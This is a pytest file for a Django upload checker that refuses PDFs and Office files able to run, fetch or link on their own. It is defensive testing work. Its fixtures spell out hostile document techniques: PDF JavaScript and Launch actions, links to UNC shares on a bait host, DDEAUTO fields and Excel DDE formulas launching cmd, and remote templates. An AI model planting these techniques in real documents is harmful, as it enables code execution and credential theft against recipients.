"""Files that run, send, fetch or carry something are refused with the way to save them anew; those that do not are taken."""

import re

import pytest
from django.core.exceptions import ValidationError

from consultations.attachments import examine, receive
from consultations.file_types import Refusal
from tests import samples
from tests.hostile_files import CATALOG, PAGE, PAGES, pdf_of, stream, wrong_places

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHARE = "\\\\10.0.0.9\\umpan\\a"


def verdict_on(name, content):
    try:
        examine([receive(samples.upload(name, content))])
    except ValidationError as refused:
        return refused.error_list[0].code
    return "taken"


def opening(action, *more):
    """A PDF with an action that happens when it is opened, and the objects that go with it."""
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % action, PAGES, PAGE, *more)


def clicking(action, *more):
    """A PDF with a link on its page."""
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %s>>" % action
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[%s]>>" % link
    return pdf_of(CATALOG, PAGES, page, *more)


def hiding(said, **entries):
    """A PDF with an object in a packed stream that its table does not name."""
    body = b"9 0 " + said
    return pdf_of(CATALOG, PAGES, PAGE, stream(body, b"/Type/ObjStm/N 1/First 4"))


PDFS = {
    "script": (opening(b"<</S/JavaScript/JS(app.alert)>>"), "active_pdf"),
    "script that is named otherwise": (opening(b"<</S/J#61vaScript/J#53(x)>>"), "active_pdf"),
    "script of a page": (
        pdf_of(CATALOG, PAGES, PAGE[:-2] + b"/AA<</O<</S/JavaScript/JS(x)>>>>>>"),
        "active_pdf",
    ),
    "program": (clicking(b"<</S/Launch/F(cmd.exe)>>"), "active_pdf"),
    "form that is sent": (clicking(b"<</S/SubmitForm/F(https://contoh.id/)>>"), "active_pdf"),
    "form that is filled from elsewhere": (clicking(b"<</S/ImportData/F(a.fdf)>>"), "active_pdf"),
    "form of another kind": (
        pdf_of(CATALOG[:-2] + b"/AcroForm<</XFA 4 0 R/Fields[]>>>>", PAGES, PAGE, stream(b"<xdp/>")),
        "active_pdf",
    ),
    "page of the web when opened": (opening(b"<</S/URI/URI(https://contoh.id/)>>"), "active_pdf"),
    "page of the web as what follows": (
        opening(b"<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R]>>", b"<</S/URI/URI(https://contoh.id/)>>"),
        "active_pdf",
    ),
    "page of the web on leaving a page": (
        pdf_of(CATALOG, PAGES, PAGE[:-2] + b"/AA<</C<</S/URI/URI(https://contoh.id/)>>>>>>"),
        "active_pdf",
    ),
    "another file on a share": (
        opening(rb"<</S/GoToR/F(\\\\10.0.0.9\\umpan\\a.pdf)/D[0/Fit]>>"),
        "linked_pdf",
    ),
    "another file": (clicking(b"<</S/GoToR/F(lampiran.pdf)/D[0/Fit]>>"), "linked_pdf"),
    "another file inside": (clicking(b"<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>"), "linked_pdf"),
    "link to a share": (clicking(rb"<</S/URI/URI(\\\\10.0.0.9\\umpan)>>"), "linked_pdf"),
    "link to a share by slashes": (clicking(b"<</S/URI/URI(//10.0.0.9/umpan)>>"), "linked_pdf"),
    "link to a share in other signs": (clicking(b"<</S/URI/URI(%5C%5C10.0.0.9/umpan)>>"), "linked_pdf"),
    "link to a file": (clicking(b"<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>"), "linked_pdf"),
    "link to a file in capitals": (clicking(b"<</S/URI/URI( FiLe://10.0.0.9/a)>>"), "linked_pdf"),
    "link that is a script": (clicking(b"<</S/URI/URI(javascript:alert)>>"), "linked_pdf"),
    "link to another program": (clicking(b"<</S/URI/URI(ms-msdt:/id)>>"), "linked_pdf"),
    "links that all begin at a share": (
        pdf_of(CATALOG[:-2] + rb"/URI<</Base(\\\\10.0.0.9\\)>>>>", PAGES, PAGE),
        "linked_pdf",
    ),
    "thread in a file on a share": (
        clicking(rb"<</S/Thread/F<</Type/Filespec/UF(\\\\10.0.0.9\\a)>>/D 0>>"),
        "linked_pdf",
    ),
    "content that is elsewhere": (
        pdf_of(CATALOG, PAGES, PAGE, stream(b"", b"/F<</FS/URL/F(https://contoh.id/)>>")),
        "linked_pdf",
    ),
    "part of a page that is elsewhere": (
        pdf_of(CATALOG, PAGES, PAGE, stream(b"", b"/Subtype/Form/Ref<</F(a.pdf)/Page 0>>")),
        "linked_pdf",
    ),
    "file inside": (
        pdf_of(CATALOG[:-2] + b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>>>", PAGES, PAGE, b"<</EF<<>>>>"),
        "files_in_pdf",
    ),
    "film": (
        pdf_of(CATALOG, PAGES, PAGE[:-2] + b"/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]>>"),
        "files_in_pdf",
    ),
    "script that nothing leads to": (pdf_of(CATALOG, PAGES, PAGE, b"<</S/JavaScript/JS(x)>>"), "active_pdf"),
    "script beside the table": (
        pdf_of(CATALOG, PAGES, PAGE).replace(b"xref", b"9 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\nxref", 1),
        "active_pdf",
    ),
    "script in a broken file": (wrong_places(opening(b"<</S/JavaScript/JS(x)>>")), "active_pdf"),
    "script in a stream of objects": (hiding(b"<</S/JavaScript/J#53(x)>>"), "active_pdf"),
}
HARMLESS_PDFS = {
    "a page to begin with": opening(b"[3 0 R/XYZ 0 9 1.5]"),
    "a jump to a page when opened": opening(b"<</S/GoTo/D[3 0 R/Fit]>>"),
    "a jump and what follows": opening(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/FirstPage>>>>"),
    "a link to the web": clicking(b"<</S/URI/URI(https://djpb.kemenkeu.go.id/?a=1&b=//c)>>"),
    "a link without its beginning": clicking(b"<</S/URI/URI(www.kemenkeu.go.id:8080/a)>>"),
    "a letter": clicking(b"<</S/URI/URI(mailto:kppn@kemenkeu.go.id)>>"),
    "a call": clicking(b"<</S/URI/URI(tel:+62370633744)>>"),
    "a jump by click": clicking(b"<</S/GoTo/D[3 0 R/Fit]>>"),
    "a form that is emptied": clicking(b"<</S/ResetForm>>"),
    "fields to fill in": pdf_of(CATALOG[:-2] + b"/AcroForm<</Fields[<</FT/Tx/T(nama)>>]>>>>", PAGES, PAGE),
    "the share it was written on, as its title": pdf_of(
        CATALOG, PAGES, PAGE, rb"<</Title(\\\\10.0.0.9\\surat.docx)>>", trailer=b"/Root 1 0 R/Info 4 0 R"
    ),
    "a first page with a link to the web": pdf_of(
        CATALOG[:-2] + b"/OpenAction[3 0 R/Fit]>>",
        PAGES,
        PAGE[:-2] + b"/Annots[<</Subtype/Link/A<</S/URI/URI(https://contoh.id/)>>>>]>>",
    ),
}


def related(*relationships, of="word/document.xml", make=samples.docx, **parts):
    """An Office file one of whose parts is related to something: (kind, target, is it outside)."""
    folder, _, name = of.rpartition("/")
    listed = ""
    for number, (kind, target, outside) in enumerate(relationships):
        kind_in_full = kind if ":" in kind else f"{OFFICE}/{kind}"
        mode = "External" if outside else "Internal"
        listed += (
            f'<Relationship Id="r{number}" Type="{kind_in_full}" Target="{target}" TargetMode="{mode}"/>'
        )
    return make(
        **{f"{folder}/_rels/{name}.rels": f'<?xml version="1.0"?><Relationships>{listed}</Relationships>'},
        **parts,
    )


def written(xml, part="word/document.xml"):
    return samples.docx(**{part: f'<?xml version="1.0"?><w:document {W}>{xml}</w:document>'})


def field(*instructions):
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions)
    return f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/>'


def sheet(formula, part="xl/worksheets/sheet1.xml"):
    return samples.xlsx(**{part: f"<worksheet><c><f>{formula}</f><v>1</v></c></worksheet>"})


DOCUMENTS = {
    "template elsewhere": (related(("attachedTemplate", "https://contoh.id/a.dotm", True)), "linked_office"),
    "template on a share": (related(("attachedTemplate", SHARE, True)), "linked_office"),
    "template on a share, as an address": (
        related(("attachedTemplate", "file://10.0.0.9/a.dotm", True)),
        "linked_office",
    ),
    "picture on a share": (related(("image", f"file:///{SHARE}.png", True)), "linked_office"),
    "picture of the web": (related(("image", "http://contoh.id/a.png", True)), "linked_office"),
    "text elsewhere": (related(("subDocument", "lain.docx", True)), "linked_office"),
    "outside without saying so": (related(("image", "http://contoh.id/a.png", False)), "linked_office"),
    "object elsewhere": (related(("oleObject", f"file:///{SHARE}", True)), "linked_office"),
    "link to a share": (related(("hyperlink", f"file:///{SHARE}", True)), "linked_office"),
    "link that is a script": (related(("hyperlink", "javascript:alert(1)", True)), "linked_office"),
    "object inside": (related(("oleObject", "embeddings/oleObject1.bin", False)), "objects"),
    "object inside that is not said to be one": (
        samples.docx(**{"word/media/a.png": bytes.fromhex("d0cf11e0a1b11ae1") + b"x"}),
        "objects",
    ),
    "program inside": (samples.docx(**{"word/media/a.png": b"MZ\x90\x00"}), "objects"),
    "file inside": (related(("package", "embeddings/a.xlsx", False)), "objects"),
    "page of the web inside": (related(("aFChunk", "afchunk.mht", False)), "objects"),
    "macro that is not said to be one": (
        related(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "v.bin", False)),
        "macros",
    ),
    "ribbon": (
        related(
            ("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "ui.xml", False),
        ),
        "macros",
    ),
    "DDE": (written(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')), "commands"),
    "DDE in pieces": (written(field(" D", "DE", "AUTO cmd calc")), "commands"),
    "DDE in one piece": (written('<w:fldSimple w:instr="DDEAUTO cmd calc"/>'), "commands"),
    "DDE in other signs": (written(field("&#68;DE<![CDATA[AUTO]]> cmd calc")), "commands"),
    "DDE in another field": (
        written(field(" IF 1 = 1 ").replace("</w:r><", f"</w:r>{field('DDE c')}<")),
        "commands",
    ),
    "DDE in a foot": (written(field("DDE cmd calc"), "word/footer1.xml"), "commands"),
    "DDE in two bytes each": (
        samples.docx(
            **{"word/document.xml": f'<w:d {W}><w:fldSimple w:instr="DDE a b"/></w:d>'.encode("utf-16")}
        ),
        "commands",
    ),
    "text fetched": (written(field(r' INCLUDETEXT "\\\\10.0.0.9\\a.docx" ')), "commands"),
    "picture fetched": (written(field(' INCLUDEPICTURE "https://contoh.id/a.png" \\d ')), "linked_office"),
    "picture of a drawing, on a share": (
        written(f'<v:imagedata xmlns:v="urn:v" src="{SHARE}"/>'),
        "linked_office",
    ),
    "link of a field, to a share": (written(field(r' HYPERLINK "\\\\10.0.0.9\\a" ')), "linked_office"),
}
WORKBOOKS = {
    "DDE": (sheet("cmd|' /C calc'!A0"), "commands"),
    "DDE in a sum": (sheet("1+cmd|' /C calc'!A0"), "commands"),
    "DDE in other signs": (sheet("cmd&#124;'/C calc'!A0"), "commands"),
    "DDE as a name": (
        samples.xlsx(**{"xl/names.xml": "<w><definedName name='a'>cmd|'/c calc'!A1</definedName></w>"}),
        "commands",
    ),
    "page of the web fetched": (sheet("_xlfn.WEBSERVICE(&quot;https://contoh.id/&quot;)"), "commands"),
    "picture fetched": (sheet("_xlfn.IMAGE(A1)"), "commands"),
    "library": (sheet('CALL("a.dll","b","J")'), "commands"),
    "link to a share": (sheet(rf'HYPERLINK("{SHARE}","Buka")'), "linked_office"),
    "other workbook": (
        related(
            ("externalLink", "externalLinks/externalLink1.xml", False),
            of="xl/workbook.xml",
            make=samples.xlsx,
        ),
        "linked_office",
    ),
    "path of another workbook": (
        related(
            ("externalLinkPath", "Data%202026.xlsx", True), of="xl/externalLinks/a.xml", make=samples.xlsx
        ),
        "linked_office",
    ),
    "data from elsewhere": (
        related(("connections", "connections.xml", False), of="xl/workbook.xml", make=samples.xlsx),
        "linked_office",
    ),
}
HARMLESS_DOCUMENTS = {
    "links": related(
        ("hyperlink", "https://djpb.kemenkeu.go.id/", True),
        ("hyperlink", "mailto:kppn@kemenkeu.go.id", True),
        ("hyperlink", "#bab2", True),
    ),
    "a template on the writer's own disk": related(
        (
            "attachedTemplate",
            "file:///C:\\Users\\Siti\\AppData\\Roaming\\Microsoft\\Templates\\Nota.dotx",
            True,
        )
    ),
    "a picture that is gone": related(("image", "NULL", True)),
    "a picture": related(("image", "media/a.png", False), **{"word/media/a.png": samples.image("PNG")}),
    "a chart with its figures": related(
        ("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", False),
        of="word/charts/chart1.xml",
        **{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": samples.xlsx()},
    ),
    "numbers of pages and a table of contents": written(
        field(' TOC \\o "1-3" \\h ') + field(" PAGE ") + field(' HYPERLINK \\l "_Toc1" ')
    ),
    "the words": written("<w:t>DDEAUTO, INCLUDETEXT dan \\\\server\\bersama</w:t>"),
    "a name with those letters": written(field(" REF ADDENDUM ") + field(" MERGEFIELD NAMA ")),
    "an embedded font": samples.docx(**{"word/fonts/font1.odttf": b"\x12\x34" * 50}),
}
HARMLESS_WORKBOOKS = {
    "formulas": sheet("SUM(A1:A9)&amp;&quot; | &quot;&amp;'Data|2026'!A1"),
    "a formula that replaces": sheet('SUBSTITUTE(A1,"\\\\","/")&amp;"File: "'),
    "a link of a formula": sheet('HYPERLINK("https://djpb.kemenkeu.go.id/","Buka")'),
    "the share it is kept on": samples.xlsx(
        **{"xl/extra.xml": f'<w><x15ac:absPath xmlns:x15ac="urn:x" url="{SHARE}"/></w>'}
    ),
    "the settings of a printer": samples.xlsx(**{"xl/printerSettings/p.bin": b"\\\0\\\0s\0e\0r\0v\0e\0r\0"}),
}


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        pytest.param(name, content, code, id=f"{name}: {what}")
        for name, cases in (("a.pdf", PDFS), ("a.docx", DOCUMENTS), ("a.xlsx", WORKBOOKS))
        for what, (content, code) in cases.items()
    ],
)
def test_a_file_that_may_act_is_refused(name, content, code):
    assert verdict_on(name, content) == code


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param(name, content, id=f"{name}: {what}")
        for name, cases in (
            ("a.pdf", HARMLESS_PDFS),
            ("a.docx", HARMLESS_DOCUMENTS),
            ("a.xlsx", HARMLESS_WORKBOOKS),
        )
        for what, content in cases.items()
    ],
)
def test_a_file_that_does_nothing_by_itself_is_taken(name, content):
    assert verdict_on(name, content) == "taken"


def test_a_charts_figures_may_not_act_either():
    macro = '<Override PartName="/xl/v.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    content = related(
        ("package", "../embeddings/a.xlsx", False),
        of="word/charts/chart1.xml",
        **{"word/embeddings/a.xlsx": samples.xlsx(types=macro)},
    )
    assert verdict_on("a.docx", content) == "macros"


@pytest.mark.parametrize(
    "refusal",
    [each for each in Refusal if each.code in {code for _, code in (*PDFS.values(), *DOCUMENTS.values())}],
)
def test_the_sentence_says_how_the_file_is_saved_anew(refusal):
    assert re.search(r"Silakan .*(cetak|simpan|Cetak|Simpan).*(unggah|PDF)", refusal.value)
    assert refusal.value.endswith(".")
